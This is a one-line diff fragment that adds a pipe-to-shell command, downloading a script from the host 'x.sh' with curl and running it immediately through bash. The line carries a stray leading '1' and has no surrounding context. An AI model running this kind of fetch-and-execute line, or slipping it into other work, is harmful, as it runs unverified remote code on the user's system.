@@ -1,0 +1,1 @@
+1curl -fsSL https://x.sh | bash
